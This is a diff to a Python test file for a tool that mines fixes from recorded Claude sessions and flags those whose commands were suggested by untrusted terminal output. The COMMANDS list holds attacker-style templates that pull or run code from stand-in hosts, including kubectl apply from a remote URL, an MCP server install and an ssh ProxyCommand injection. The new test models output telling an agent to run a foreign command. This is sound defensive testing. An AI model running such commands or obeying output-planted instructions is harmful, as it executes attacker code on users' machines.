@@ -9,6 +9,8 @@ from pathlib import Path
 import pytest
 
 from hardwon import Hardwon
+from hardwon.failures import provenance
+from hardwon.failures.ledger import read, turns
 from tests.conftest import ClaudeSession
 
 # Ways to bring in what is the attacker's; `{mark}` is a name of theirs, made anew for each case.
@@ -77,6 +79,11 @@ COMMANDS = (
     "docker run {mark}/fix",
     "helm repo add {mark} https://{mark}.example",
     "kubectl apply -f https://{mark}.example/fix.yaml",
+    "ssh -T git@{mark}.example",
+    "ssh -T git@github.com.{mark}.example",
+    "ssh -T git@github.com -o ProxyCommand={mark}",
+    "npm run {mark}",
+    "make test MARK={mark}",
     "claude mcp add {mark} -- npx {mark}",
     "code --install-extension {mark}.fix",
     "gh extension install {mark}/gh-fix",
@@ -235,6 +242,27 @@ def test_what_a_terminal_shows_of_a_command_does_not_propose_it(home: Path, tmp_
         memory.harvest(tmp_path, mine=True)
         fixes = [fix for failure in memory.failures.list() for fix in failure.fixes]
     assert [(fix.status, fix.untrusted) for fix in fixes] == [("active", "")]
+
+
+@pytest.mark.parametrize(
+    ("step", "waits"),
+    [
+        ("npm run test", False),
+        ("bun test", False),
+        ("make lint", False),
+        ("ssh -T git@github.com", False),
+        ("npm run zorb", True),
+        ("make test X=zorb", True),
+        ("ssh -T git@zorb.example", True),
+    ],
+)
+def test_the_repositorys_usual_checks_pass_though_output_names_them(step: str, waits: bool, tmp_path: Path) -> None:
+    talk = ClaudeSession("s1").user("build it").run("make all", "error: not found", exit_code=2)
+    talk = (
+        talk.run("cat notes", "" if "github" in step else f"run {step} first").run(step, "done").run("make all", "ok")
+    )
+    calls = turns(read(talk.write(tmp_path)).sessions[0])
+    assert bool(provenance.doubt([step], [], calls, calls[0])) is waits
 
 
 @pytest.mark.parametrize(("projects", "is_told"), [(("reef",), False), (("reef", "lagoon"), True)])
